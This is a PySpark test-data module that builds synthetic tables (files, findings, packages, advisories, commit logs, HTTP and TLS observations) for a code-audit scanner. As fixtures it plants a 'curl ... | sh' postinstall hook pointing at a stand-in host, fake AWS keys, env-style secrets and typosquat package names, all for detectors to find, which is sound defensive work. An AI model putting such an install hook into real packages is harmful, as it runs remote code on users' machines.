"""Input tables and the stand-ins derived from the driver's parquet tables.

The domain tables (``files``, ``findings``, ``packages`` …) are contracts; on a
real fleet they come from ingestion jobs.  For the test data they are derived
here, lazily and column-pruned, so every query's work grows with the inputs.
"""

from __future__ import annotations

import uuid

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from codeaudit.functions.text import suffix
from codeaudit.session import checkpoint_dir, qualified
from codeaudit.sources.commit_log import write_commit_log
from codeaudit.sources.tree_reader import list_dir, write_tree

TABLES = ["region", "nation", "customer", "supplier", "part", "orders", "lineitem", "events",
          "documents", "embeddings", "pages", "benchmark", "labels", "conversations"]


def read(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    """A given table.  Its tasks are its file splits, unless the session asks
    for so many partitions by ``spark.codeaudit.inputPartitions`` (for inputs
    that are single row groups, which no reader can split)."""
    df = spark.read.parquet(f"{sf_dir.rstrip('/')}/{name}.parquet")
    n = spark.conf.get("spark.codeaudit.inputPartitions", None)
    return df.repartition(int(n)) if n else df


def _with_parts(lines: DataFrame, parts: DataFrame) -> DataFrame:
    """Line items with their parts, by exchange: a compressed file of parts
    looks small enough to be broadcast long after its rows are too many for the
    driver, which would hold them once for every branch of a plan."""
    return lines.join(parts.hint("shuffle_hash"), lines.l_partkey == parts.p_partkey)


def files_from_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``files``: one file per document.  repo = source; the path shape is chosen
    by ``doc_id % 5`` so that code, YAML, docs, JSON and test paths all occur."""
    return documents_to_files(read(spark, sf_dir, "documents"))


def documents_to_files(documents: DataFrame) -> DataFrame:
    """Row-wise mapping documents → files (usable on a stream)."""
    d = documents.select("doc_id", "source", "text")
    k = F.col("doc_id") % 5
    sid = F.col("doc_id").cast("string")
    path = (F.when(k == 0, F.concat(F.lit("app/doc_"), sid, F.lit(".py")))
             .when(k == 1, F.concat(F.lit("deploy/doc_"), sid, F.lit(".yml")))
             .when(k == 2, F.concat(F.lit("notes/doc_"), sid, F.lit(".md")))
             .when(k == 3, F.concat(F.lit("config/doc_"), sid, F.lit(".json")))
             .otherwise(F.concat(F.lit("tests/doc_"), sid, F.lit(".py"))))
    return file_columns(d.select(F.col("source").alias("repo_id"), path.alias("path"),
                                 F.col("text").alias("content"), F.col("doc_id")), extra=["doc_id"]) \
        .withColumn("mtime", F.timestamp_seconds(F.lit(1_700_000_000) + F.col("doc_id"))).drop("doc_id")


def previous_files_from_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The same tree one revision earlier: the French documents had an extra
    trailing line and an older mtime."""
    d = read(spark, sf_dir, "documents").select("doc_id", "source", "text", "lang")
    changed = F.col("lang") == "fr"
    d = d.withColumn("text", F.when(changed, F.concat("text", F.lit("\n# previous revision"))).otherwise(F.col("text")))
    f = documents_to_files(d.withColumnRenamed("lang", "_lang"))
    old = d.select(F.col("source").alias("repo_id"), F.col("doc_id"), changed.alias("_changed"))
    doc = F.regexp_extract("path", r"doc_(\d+)\.", 1).cast("long")
    return f.withColumn("doc_id", doc).join(old, ["repo_id", "doc_id"]) \
        .withColumn("mtime", F.when(F.col("_changed"), F.timestamp_seconds(F.lit(1_600_000_000))).otherwise(F.col("mtime"))) \
        .drop("doc_id", "_changed")


def changed_files_from_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``changed_files`` stand-in: the documents not written in English changed since the base ref."""
    d = read(spark, sf_dir, "documents").filter(F.col("lang") != "en")
    return documents_to_files(d).select("repo_id", "path")


def raw_tree_from_documents(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Raw walk output stand-in (before ignore rules): documents laid out in
    vendor, build, log, cache and source directories, plus one .gitignore per
    source (``logs/``, ``*.tmp``, ``cache``, a comment and a negation)."""
    d = read(spark, sf_dir, "documents").select("doc_id", "source", "text")
    sid = F.col("doc_id").cast("string")
    k = F.col("doc_id") % 8
    path = (F.when(k == 0, F.concat(F.lit("src/app/doc_"), sid, F.lit(".py")))
             .when(k == 1, F.concat(F.lit("node_modules/lib"), (F.col("doc_id") % 3).cast("string"), F.lit("/doc_"), sid, F.lit(".js")))
             .when(k == 2, F.concat(F.lit("logs/doc_"), sid, F.lit(".log")))
             .when(k == 3, F.concat(F.lit("docs/guide/doc_"), sid, F.lit(".md")))
             .when(k == 4, F.concat(F.lit("build/doc_"), sid, F.lit(".js")))
             .when(k == 5, F.concat(F.lit("tmp/doc_"), sid, F.lit(".tmp")))
             .when(k == 6, F.concat(F.lit("pkg/cache/doc_"), sid, F.lit(".txt")))
             .when(F.col("doc_id") % 16 == 15, F.concat(F.lit("secrets/doc_"), sid, F.lit(".pem")))
             .otherwise(F.concat(F.lit(".github/workflows/doc_"), sid, F.lit(".yml"))))
    files = d.select(F.col("source").alias("repo_id"), path.alias("path"),
                     F.octet_length("text").cast("long").alias("size"),
                     F.timestamp_seconds(F.lit(1_700_000_000) + F.col("doc_id")).alias("mtime"),
                     F.lit(False).alias("is_symlink"), F.encode("text", "UTF-8").alias("data"))
    gi = d.select("source").distinct().select(
        F.col("source").alias("repo_id"), F.lit(".gitignore").alias("path"),
        F.lit(34).cast("long").alias("size"), F.timestamp_seconds(F.lit(1_700_000_000)).alias("mtime"),
        F.lit(False).alias("is_symlink"), F.encode(F.lit("# c\nlogs/\n*.tmp\n!keep.log\ncache\n"), "UTF-8").alias("data"))
    return files.unionByName(gi)


def tree_on_disk(spark: SparkSession, sf_dir: str) -> list[tuple[str, str]]:
    """The raw tree written as files, a root a repository, below the checkpoint
    folder: (repo_id, root) pairs."""
    folder = qualified(spark, f"{checkpoint_dir(spark).rstrip('/')}/tree-{uuid.uuid4().hex}")
    write_tree(raw_tree_from_documents(spark, sf_dir), folder)
    return [(e.name, f"{folder}/{e.name}") for e in list_dir(folder) if e.is_dir]


def files_from_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``files`` (markup): one ``.vue`` component per page; repo = host."""
    p = read(spark, sf_dir, "pages").select("page_id", "url", "html")
    return file_columns(p.select(
        F.regexp_extract("url", r"^[a-z]+://([^/:?#]+)", 1).alias("repo_id"),
        F.concat(F.lit("web/page_"), F.col("page_id").cast("string"), F.lit(".vue")).alias("path"),
        F.col("html").alias("content")))


def file_columns(df: DataFrame, tracked: bool | None = True, extra: list[str] | None = None) -> DataFrame:
    """Complete (repo_id, path, content) to the ``files`` contract."""
    name = F.element_at(F.split("path", "/"), -1)
    return df.select(
        "repo_id", "path", *(extra or []),
        name.alias("name"),
        F.regexp_extract("path", r"^(.*)/[^/]*$", 1).alias("dir"),
        suffix(name).alias("ext"),
        F.octet_length("content").cast("long").alias("size"),
        F.lit(tracked).cast("boolean").alias("tracked"),
        "content")


# FIXED mapping of the stand-in: event type → severity, and the scanner ring.
EVENT_SEVERITY = {"error": "critical", "purchase": "high", "click": "medium", "view": "low", "signup": "info"}
SCANNER_RING = ["secrets", "config", "deps", "licenses", "git", "readiness", "surface"]


def findings_from_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``findings`` stand-in: one finding per event.  repo = user, scanner from a
    ring by event id, severity by event type, evidence = props; ``ord_pos`` keeps
    the arrival order for "first on ties"."""
    return events_to_findings(read(spark, sf_dir, "events"))


def events_to_findings(events: DataFrame) -> DataFrame:
    """Row-wise mapping events → findings (usable on a stream)."""
    e = events.select("event_id", "user_id", "event_type", "value", "props")
    sev_map = F.create_map(*[x for kv in EVENT_SEVERITY.items() for x in (F.lit(kv[0]), F.lit(kv[1]))])
    scanner = F.element_at(F.array(*[F.lit(s) for s in SCANNER_RING]),
                           (F.col("event_id") % len(SCANNER_RING) + 1).cast("int"))
    return e.select(
        F.concat(F.lit("repo-"), F.col("user_id").cast("string")).alias("repo_id"),
        F.concat(scanner, F.lit("/"), F.col("event_type")).alias("id"),
        F.concat(F.initcap("event_type"), F.lit(" finding")).alias("title"),
        sev_map[F.col("event_type")].alias("severity"),
        scanner.alias("scanner"),
        F.concat(F.lit("src/module_"), (F.floor("value") % 13).cast("string"), F.lit(".py")).alias("path"),
        (F.floor(F.col("value") * 10) % 50).cast("int").alias("line"),
        F.col("props").alias("evidence"),
        F.lit("Review the finding.").alias("remediation"),
        F.lit("").alias("reference"),
        F.lit(0).cast("long").alias("ord_scanner"),
        F.lit(0).cast("long").alias("ord_rule"),
        F.col("event_id").cast("long").alias("ord_pos"))


def repos_from_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    e = read(spark, sf_dir, "events").select("user_id")
    return e.select(F.concat(F.lit("repo-"), F.col("user_id").cast("string")).alias("repo_id")).distinct()


def baseline_from_labels(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``baseline`` stand-in: fingerprints of the findings whose event id is a
    labelled document with quality 1 (accepted debt)."""
    from codeaudit.model import fingerprint
    f = findings_from_events(spark, sf_dir)
    lab = read(spark, sf_dir, "labels").filter(F.col("quality") == 1).select(F.col("doc_id").alias("ord_pos"))
    return f.join(lab, "ord_pos", "left_semi").select("repo_id", fingerprint().alias("fingerprint")).distinct()


def policy_from_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``policy`` stand-in, one row per repo, shaped by the user id: a fail_on
    level (or none), one severity override, one ignored id, one ignored glob."""
    u = read(spark, sf_dir, "events").select("user_id").distinct()
    k = F.col("user_id") % 4
    return u.select(
        F.concat(F.lit("repo-"), F.col("user_id").cast("string")).alias("repo_id"),
        F.when(k == 0, "high").when(k == 1, "medium").when(k == 2, "never").alias("fail_on"),
        F.create_map(F.lit("config/view"), F.lit("high")).alias("severity"),
        F.array(F.lit("deps/signup")).alias("ignore"),
        F.array(F.concat(F.lit("src/module_"), (F.col("user_id") % 10).cast("string"), F.lit("*"))).alias("ignore_paths"))


# FIXED stand-in shapes for the package family.
ECOSYSTEMS = ["npm", "PyPI", "crates.io", "RubyGems", "Go"]
LOCKFILE_OF = {"npm": "package-lock.json", "PyPI": "requirements.txt", "crates.io": "Cargo.lock",
               "RubyGems": "Gemfile.lock", "Go": "go.mod"}
CVSS_VECTORS = [
    "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H",
    "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:C/C:H/I:L/A:N",
    "CVSS:3.1/AV:L/AC:H/PR:H/UI:R/S:U/C:L/I:N/A:N",
    "CVSS:3.0/AV:A/AC:L/PR:N/UI:R/S:U/C:N/I:N/A:N",
    "CVSS:2.0/AV:N/AC:L/Au:N/C:P/I:P/A:P",
    "CVSS:3.1/AV:P/AC:H/PR:L/UI:N/S:C/C:N/I:L/A:H",
    "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N",
]
DB_SEVERITIES = ["", "moderate", "CRITICAL", "low", "unknown", "high"]
LICENSE_RING = ["MIT", "Apache-2.0", "GPL-3.0-only", "AGPL-3.0", "LGPL-2.1-or-later", "MPL-2.0", "",
                "Proprietary", "BSD-3-Clause", "Custom-EULA", "ISC", "UNLICENSED", "EPL-2.0"]


def _lit_array(xs):
    return F.array(*[F.lit(x) for x in xs])


def _eco(brand_col: str = "p_brand"):
    n = F.regexp_extract(F.col(brand_col), r"#(\d+)", 1).cast("int")
    return F.element_at(_lit_array(ECOSYSTEMS), (n % len(ECOSYSTEMS) + 1).cast("int"))


def packages_from_lineitem(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``packages`` stand-in: one resolved package per line item.  repo = order,
    name = part name, version = 1.<line>.<size mod 10>, ecosystem by brand,
    dev = return flag R, manifest = the ecosystem's lockfile."""
    li = read(spark, sf_dir, "lineitem").select("l_orderkey", "l_partkey", "l_linenumber", "l_returnflag")
    p = read(spark, sf_dir, "part").select("p_partkey", "p_name", "p_brand", "p_size")
    j = _with_parts(li, p)
    eco = _eco()
    lock = F.create_map(*[x for kv in LOCKFILE_OF.items() for x in (F.lit(kv[0]), F.lit(kv[1]))])
    return j.select(
        F.concat(F.lit("order-"), F.col("l_orderkey").cast("string")).alias("repo_id"),
        lock[eco].alias("manifest"),
        F.regexp_replace("p_name", " ", "-").alias("name"),
        F.concat(F.lit("1."), F.col("l_linenumber").cast("string"), F.lit("."),
                 (F.col("p_size") % 10).cast("string")).alias("version"),
        eco.alias("eco"),
        (F.col("l_returnflag") == "R").alias("dev"))


#: Names one edit from a popular one, by ecosystem.
TYPOS = {"npm": ["lodas", "reactt", "expres", "axois", "momen", "webpak"], "PyPI": ["reqests", "numpyy", "flsk", "pandass", "pytes", "djang0"]}


def packages_with_typos(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``packages`` and, for some orders, a name that is one edit from a
    popular one and the first line's name without its third character."""
    pk = packages_from_lineitem(spark, sf_dir)
    order = F.regexp_extract("repo_id", "([0-9]+)$", 1).cast("long")
    ring = F.create_map(*[x for e, v in TYPOS.items() for x in (F.lit(e), F.array(*map(F.lit, v)))])[F.col("eco")]
    row = lambda n: F.array(F.struct(n.alias("name")))
    squat, none = F.element_at(ring, (order % 6 + 1).cast("int")), F.filter(row(F.lit("")), lambda x: F.lit(False))
    short = F.concat(F.substring("name", 1, 2), F.expr("substring(name, 4)"))
    names = F.concat(row(F.col("name")), F.when((order % 20 == 0) & ~F.col("dev"), F.concat(
        F.when(squat.isNotNull(), row(squat)).otherwise(none), row(short))).otherwise(none))
    # one pass: a union of the three would read and join the line items three times
    return pk.select(*[c for c in pk.columns if c != "name"], F.explode(names).alias("_n")).select(
        *[F.col("_n.name") if c == "name" else F.col(c) for c in pk.columns])


def advisories_from_part(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``advisories`` stand-in (OSV shape): one advisory per part, affecting the
    part's package from 1.0.0 up to a fixed version, plus one listed version."""
    p = read(spark, sf_dir, "part").select("p_partkey", "p_name", "p_brand", "p_type", "p_size")
    k = F.col("p_partkey")
    fixed = F.concat(F.lit("1."), (F.col("p_size") % 7 + 1).cast("string"), F.lit(".0"))
    listed = F.concat(F.lit("1."), (F.col("p_size") % 7 + 1).cast("string"), F.lit(".9"))
    sid = k.cast("string")
    event = "struct<introduced:string,fixed:string>"
    events = F.array(F.struct(F.lit("1.0").alias("introduced"), F.lit(None).cast("string").alias("fixed")),
                     F.struct(F.lit(None).cast("string").alias("introduced"), fixed.alias("fixed"))).cast(f"array<{event}>")
    # commits of a GIT range, which no version may be compared with
    commits = F.array(F.struct(F.lit("0").alias("introduced"), F.lit(None).cast("string").alias("fixed")),
                      F.struct(F.lit(None).cast("string").alias("introduced"), F.lit("9fa3bc12").alias("fixed"))).cast(f"array<{event}>")
    return p.select(
        F.concat(F.lit("ADV-"), sid).alias("id"),
        F.concat(F.initcap("p_name"), F.lit(" "), F.lower("p_type"), F.lit(" handling flaw")).alias("summary"),
        F.when(k % 3 == 0, F.array(F.concat(F.lit("GHSA-"), sid), F.concat(F.lit("CVE-2024-"), sid)))
         .when(k % 3 == 1, F.array(F.concat(F.lit("GHSA-"), sid)))
         .otherwise(F.array().cast("array<string>")).alias("aliases"),
        F.when(k % 11 == 0, F.lit("2024-06-01")).alias("withdrawn"),
        F.element_at(_lit_array(DB_SEVERITIES), (k % len(DB_SEVERITIES) + 1).cast("int")).alias("db_severity"),
        F.array(F.struct(F.lit("CVSS_V3").alias("type"),
                         F.element_at(_lit_array(CVSS_VECTORS), (k % len(CVSS_VECTORS) + 1).cast("int")).alias("score"))
                ).alias("severity"),
        F.array(F.struct(
            F.regexp_replace("p_name", " ", "-").alias("name"), _eco().alias("eco"),
            F.array(listed).alias("versions"),
            F.array(F.struct(F.lit("SEMVER").alias("type"), events.alias("events")),
                    F.struct(F.lit("GIT").alias("type"), commits.alias("events"))).alias("ranges"))).alias("affected"))


def registry_docs_from_part(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Registry documents (npm and PyPI JSON shapes) for every version of a
    part's package; the licence comes from a ring of ids and is written in one
    of the shapes registries use (string, list, object, classifier)."""
    p = read(spark, sf_dir, "part").select("p_partkey", "p_name", "p_brand", "p_size")
    v = p.select(_eco().alias("eco"), F.regexp_replace("p_name", " ", "-").alias("name"), (F.col("p_size") % 10).alias("s"), "p_partkey",
                 F.explode(F.sequence(F.lit(1), F.lit(7))).alias("line"))
    # one document per (eco, name, version): the lowest part key's; its text is built after the aggregate, which holds numbers
    # alone (a buffer of texts is sorted with all rows of a task in memory)
    v = v.groupBy("eco", "name", F.concat(F.lit("1."), F.col("line").cast("string"), F.lit("."), F.col("s").cast("string")).alias("version")).agg(
        F.min("p_partkey").alias("p_partkey"), F.max("line").alias("line"))  # without a version: the last line's
    eco = F.col("eco")
    lic = F.element_at(_lit_array(LICENSE_RING), ((F.col("p_partkey") + F.col("line")) % len(LICENSE_RING) + 1).cast("int"))
    shape = (F.col("p_partkey") + F.col("line")) % 4
    npm = (F.when(shape == 1, F.to_json(F.struct(F.array(F.struct(lic.alias("type"))).alias("licenses"))))
           .when(shape == 2, F.to_json(F.struct(F.struct(lic.alias("type"), F.lit("https://x").alias("url")).alias("license"))))
           .otherwise(F.to_json(F.struct(lic.alias("license")))))
    long_text = F.lit("Permission is hereby granted, free of charge, to any person obtaining a copy of this software")
    pypi = (F.when(shape == 0, F.to_json(F.struct(F.struct(lic.alias("license_expression")).alias("info"))))
            .when(shape == 2, F.to_json(F.struct(F.struct(long_text.alias("license"), F.array(
                F.lit("Topic :: Security"), F.concat(F.lit("License :: OSI Approved :: "), lic)).alias("classifiers")).alias("info"))))
            .otherwise(F.to_json(F.struct(F.struct(lic.alias("license")).alias("info")))))
    doc = F.when(eco == "npm", npm).when(eco == "PyPI", pypi).otherwise(F.to_json(F.struct(lic.alias("license"))))
    return v.select("eco", "name", "version", F.when(F.col("p_partkey").isNotNull(), doc).alias("doc"))


def registry_licenses_from_part(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``registry_licenses``: the licence extracted from each registry document."""
    from codeaudit.operators.licenses import registry_licenses
    return registry_licenses(registry_docs_from_part(spark, sf_dir))



def with_leaks(conversations: DataFrame) -> DataFrame:
    """Every seventh conversation with a cloud key in its first turn, the same
    for neighbouring ones: what history detectors are to find, once a
    repository."""
    key = F.concat(F.lit('\nAWS_KEY = "AKIA'), F.upper(F.left(F.sha1(F.floor(F.col("conv_id") / 70).cast("string")), F.lit(16))), F.lit('"'))
    leaks = (F.col("conv_id") % 7 == 0) & (F.col("turn") == 0)
    return conversations.withColumn("text", F.when(leaks, F.concat("text", key)).otherwise(F.col("text")))


def commit_lines_from_conversations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``commit_lines`` stand-in in ``git log -p`` shape: one commit per
    conversation (sha = sha1 of its id), one ``+++ b/<role>/notes.md`` header per
    turn, one ``+`` line per text line.  repo = conversation id mod 5."""
    c = with_leaks(read(spark, sf_dir, "conversations").select("conv_id", "turn", "role", "text"))
    repo = F.concat(F.lit("team-"), (F.col("conv_id") % 5).cast("string"))
    base = F.col("conv_id") * 1_000_000
    heads = c.groupBy("conv_id").agg(F.min("turn").alias("t")).select(
        repo.alias("repo_id"), base.alias("seq"),
        F.concat(F.lit("commit "), F.sha1(F.col("conv_id").cast("string"))).alias("line"))
    files = c.select(repo.alias("repo_id"), (base + (F.col("turn") + 1) * 1000).alias("seq"),
                     F.concat(F.lit("+++ b/"), F.col("role"), F.lit("/notes.md")).alias("line"))
    lines = c.select(repo.alias("repo_id"), "conv_id", "turn", F.posexplode(F.split("text", "\n")).alias("i", "t")) \
        .select("repo_id", (F.col("conv_id") * 1_000_000 + (F.col("turn") + 1) * 1000 + 1 + F.col("i")).alias("seq"),
                F.concat(F.lit("+"), F.col("t")).alias("line"))
    return heads.unionByName(files).unionByName(lines)


def logs_on_disk(spark: SparkSession, commits: DataFrame) -> str:
    """Commits (repo_id, seq, text) written as logs below the checkpoint folder."""
    folder = f"{checkpoint_dir(spark).rstrip('/')}/logs-{uuid.uuid4().hex}"
    write_commit_log(commits, folder)
    return folder


def commit_texts_from_conversations(spark: SparkSession, sf_dir: str) -> DataFrame:
    """The commits of ``commit_lines_from_conversations``, a text each."""
    lines = commit_lines_from_conversations(spark, sf_dir)
    commit = F.floor(F.col("seq") / 1_000_000).alias("seq")
    return lines.groupBy("repo_id", commit).agg(F.array_join(F.transform(F.sort_array(F.collect_list(F.struct(
        F.col("seq").alias("s"), "line"))), lambda x: x["line"]), "\n").alias("text"))


def _host(url_col: str = "url"):
    return F.regexp_extract(F.col(url_col), r"^[a-z]+://([^/:?#]+)", 1)


def http_obs_from_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``http_obs`` stand-in: one HTTPS response per page; which security
    headers and cookies it carries is shaped by the page id."""
    p = read(spark, sf_dir, "pages").select("page_id", "url")
    k = F.col("page_id")
    entries = F.array(
        F.when(k % 3 == 0, F.struct(F.lit("strict-transport-security").alias("k"),
                                   F.concat(F.lit("max-age="), (k * 100000).cast("string"), F.lit("; includeSubDomains")).alias("v"))),
        F.when(k % 2 == 0, F.struct(F.lit("content-security-policy").alias("k"),
                                   F.when(k % 4 == 0, F.lit("default-src 'self' 'unsafe-inline'"))
                                    .otherwise(F.lit("default-src 'self'")).alias("v"))),
        F.when(k % 5 != 0, F.struct(F.lit("x-content-type-options").alias("k"), F.lit("nosniff").alias("v"))),
        F.when(k % 6 == 1, F.struct(F.lit("referrer-policy").alias("k"), F.lit("no-referrer").alias("v"))),
        F.when(k % 9 == 2, F.struct(F.lit("permissions-policy").alias("k"), F.lit("camera=()").alias("v"))),
        F.when(k % 4 == 1, F.struct(F.lit("x-frame-options").alias("k"), F.lit("DENY").alias("v"))),
        F.when(k % 7 == 0, F.struct(F.lit("server").alias("k"), F.concat(F.lit("nginx/1."), (k % 20).cast("string")).alias("v"))),
        F.when(k % 8 == 3, F.struct(F.lit("x-powered-by").alias("k"), F.lit("PHP/8.1").alias("v"))),
        F.when(k % 11 == 0, F.struct(F.lit("access-control-allow-origin").alias("k"), F.lit("*").alias("v"))))
    headers = F.map_from_entries(F.filter(entries, lambda e: e.isNotNull()))
    cookies = F.filter(F.array(
        F.when(k % 2 == 1, F.concat(F.lit("sid="), k.cast("string"), F.lit("; Path=/; Secure; HttpOnly; SameSite=Lax"))),
        F.when(k % 3 == 1, F.concat(F.lit("pref="), k.cast("string"), F.lit("; Path=/")))), lambda x: x.isNotNull())
    return p.select(_host().alias("host"), F.concat(F.lit("https://"), _host(), F.lit("/page/"), k.cast("string")).alias("url"),
                    F.lit(200).alias("status"), F.col("url").alias("final_url"), headers.alias("headers"),
                    cookies.alias("set_cookie"), F.lit(None).cast("string").alias("error"))


def plain_http_obs_from_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Plain-HTTP fetch per page: the page URL as captured is where it ended."""
    p = read(spark, sf_dir, "pages").select("url")
    return p.select(_host().alias("host"), F.col("url").alias("final_url"), F.lit(None).cast("string").alias("error"))


def probe_obs_from_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``probe_obs`` stand-in: each page answers one well-known probe path
    (by page id) with its own html, or with a small env-style
    body for a few ids; odd ids answer 404 with no body."""
    from codeaudit import rules as R
    p = read(spark, sf_dir, "pages").select("page_id", "url", "html")
    k = F.col("page_id")
    paths = F.array(*[F.lit(x) for x, _s, _t in R.PROBE_PATHS])
    ok = k % 2 == 0
    body = F.when(k % 10 == 4, F.encode(F.lit("APP_KEY=base64:abc\nDB_PASSWORD=x\n"), "UTF-8")) \
        .otherwise(F.encode("html", "UTF-8"))
    return p.select(_host().alias("host"), F.concat(F.lit("https://"), _host()).alias("base"),
                    F.element_at(paths, (k % len(R.PROBE_PATHS) + 1).cast("int")).alias("path"),
                    F.when(ok, F.lit(200)).otherwise(F.lit(404)).alias("status"),
                    F.when(ok, body).otherwise(F.lit(b"").cast("binary")).alias("body"))


def tls_obs_from_pages(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``tls_obs`` stand-in: one handshake per host (its lowest page id decides
    version, expiry and validation error)."""
    p = read(spark, sf_dir, "pages").select(_host().alias("host"), "page_id")
    h = p.groupBy("host").agg(F.min("page_id").alias("k"))
    k = F.col("k")
    not_after = F.date_format(F.date_add(F.lit("2025-01-01").cast("date"), (k % 60).cast("int") - 10),
                              "MMM d HH:mm:ss yyyy 'GMT'")
    not_after = F.regexp_replace(not_after, r"^(\w{3}) (\d) ", "$1  $2 ")
    return h.select("host", F.when(k % 13 == 5, "TLSv1.1").otherwise("TLSv1.3").alias("version"),
                    not_after.alias("not_after"),
                    F.when(k % 17 == 3, F.lit("certificate verify failed: hostname mismatch")).alias("verify_error"))


def manifest_files_from_orders(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``files`` stand-in of package manifests, one repo per order:
    * ``package.json``: one dependency per distinct part name of the order
      (devDependencies when its first line is returned), spec by line status
      and return flag (``*``, ``latest``, a git ref, or a caret range); a
      postinstall script by order priority;
    * ``package-lock.json`` (orders with status F) resolving every line;
    * ``requirements.txt`` (orders with status O) pinning every line.
    Texts are built with ``to_json`` / ``array_join`` per order (≤ 7 lines).
    Lines are dealt by order once; every aggregate and the join with the orders
    keep that partitioning, and an order's files come from one row."""
    li = read(spark, sf_dir, "lineitem").select("l_orderkey", "l_partkey", "l_linenumber", "l_returnflag", "l_linestatus")
    p = read(spark, sf_dir, "part").select("p_partkey", "p_name", "p_size")
    o = read(spark, sf_dir, "orders").select("o_orderkey", "o_orderstatus", "o_orderpriority")
    j = _with_parts(li, p).select(
        "l_orderkey", F.regexp_replace("p_name", " ", "-").alias("name"), "l_linenumber", "l_returnflag", "l_linestatus",
        F.concat(F.lit("1."), F.col("l_linenumber").cast("string"), F.lit("."), (F.col("p_size") % 10).cast("string")).alias("version")) \
        .repartition("l_orderkey")
    spec = (F.when((F.col("l_linestatus") == "O") & (F.col("l_returnflag") == "N"), F.lit("*"))
            .when((F.col("l_linestatus") == "O") & (F.col("l_returnflag") == "A"), F.lit("latest"))
            .when((F.col("l_linestatus") == "O") & (F.col("l_returnflag") == "R"),
                  F.concat(F.lit("github:acme/"), F.col("name"), F.lit("#main")))
            .otherwise(F.concat(F.lit("^1."), F.col("l_linenumber").cast("string"), F.lit(".0"))))
    # the first line of each name decides its spec and section (ties broken by value)
    of_version = j.groupBy("l_orderkey", "name", "version").agg(
        F.min(F.struct(F.col("l_linenumber").alias("ln"), spec.alias("spec"),
                       (F.col("l_returnflag") == "R").alias("dev"))).alias("d"),
        F.bool_and(F.col("l_returnflag") == "R").alias("dev"))
    of_name = of_version.groupBy("l_orderkey", "name").agg(F.min("d").alias("d"), F.collect_list(F.struct("name", "version", "dev")).alias("r"))
    deps = of_name.groupBy("l_orderkey").agg(
        F.map_from_entries(F.collect_list(F.when(~F.col("d.dev"), F.struct("name", "d.spec")))).alias("dependencies"),
        F.map_from_entries(F.collect_list(F.when(F.col("d.dev"), F.struct("name", "d.spec")))).alias("devDependencies"),
        F.flatten(F.collect_list("r")).alias("r"))
    deps = deps.join(o, deps.l_orderkey == o.o_orderkey).withColumn("repo_id", F.concat(F.lit("order-"), F.col("l_orderkey").cast("string")))
    hook = (F.when(F.col("o_orderpriority") == "1-URGENT", F.lit("curl -fsSL https://get.example.com/i | sh"))
            .when(F.col("o_orderpriority") == "2-HIGH", F.lit("node scripts/setup.js")))
    pkg_json = F.to_json(F.struct(F.col("repo_id").alias("name"), F.lit("1.0.0").alias("version"),
                                  F.when(hook.isNotNull(), F.struct(hook.alias("postinstall"))).alias("scripts"),
                                  "dependencies", "devDependencies"))
    packages = F.map_from_entries(F.transform("r", lambda e: F.struct(
        F.concat(F.lit("node_modules/"), e["name"], F.lit("-"), e["version"]), e)))
    lock = F.to_json(F.struct(F.lit(3).alias("lockfileVersion"), packages.alias("packages")))
    pins = F.filter(F.transform("r", lambda e: F.concat(e["name"], F.lit("=="), e["version"])), lambda x: x.isNotNull())
    req = F.concat(F.array_join(F.sort_array(F.array_distinct(pins)), "\n"), F.lit("\n"))
    status = F.col("o_orderstatus")
    paths = F.when(status == "F", F.array(F.lit("package.json"), F.lit("package-lock.json"))).when(
        status == "O", F.array(F.lit("package.json"), F.lit("requirements.txt"))).otherwise(F.array(F.lit("package.json")))
    path = F.col("path")
    return file_columns(deps.withColumn("path", F.explode(paths)).select("repo_id", "path", F.when(path == "package.json", pkg_json).when(
        path == "package-lock.json", lock).otherwise(req).alias("content")))


#: Lockfile formats besides package-lock.json and requirements.txt, one an
#: order: file, ecosystem, and what ``dev`` is (null, true, or by return flag).
LOCK_FORMATS = [("yarn.lock", "npm", None), ("pnpm-lock.yaml", "npm", None), ("poetry.lock", "PyPI", None), ("uv.lock", "PyPI", None),
                ("Cargo.lock", "crates.io", None), ("Pipfile.lock", "PyPI", "flag"), ("go.mod", "Go", None),
                ("Gemfile.lock", "RubyGems", None), ("bun.lock", "npm", "flag"), ("requirements-dev.txt", "PyPI", "true")]


def lock_files_from_orders(spark: SparkSession, sf_dir: str) -> DataFrame:
    """``files`` of a lockfile an order, its format by the order's key: the
    order's part names (each with its first line's version and return flag)
    among what such files hold besides."""
    li = read(spark, sf_dir, "lineitem").select("l_orderkey", "l_partkey", "l_linenumber", "l_returnflag")
    p = read(spark, sf_dir, "part").select("p_partkey", "p_name", "p_size")
    lines = _with_parts(li, p).repartition("l_orderkey")  # dealt by order once, for both aggregates
    one = lines.groupBy("l_orderkey", F.regexp_replace("p_name", " ", "-").alias("n")).agg(
        F.min(F.struct(F.col("l_linenumber").alias("ln"), (F.col("p_size") % 10).alias("s"), (F.col("l_returnflag") == "R").alias("dev"))).alias("f"))
    order = one.groupBy("l_orderkey").agg(F.sort_array(F.collect_list(F.struct(
        "n", F.concat(F.lit("1."), F.col("f.ln").cast("string"), F.lit("."), F.col("f.s").cast("string")).alias("v"), F.col("f.dev").alias("dev")))).alias("x"))
    each = lambda part, sep="": f"array_join(transform(x, e -> {part}), '{sep}')"
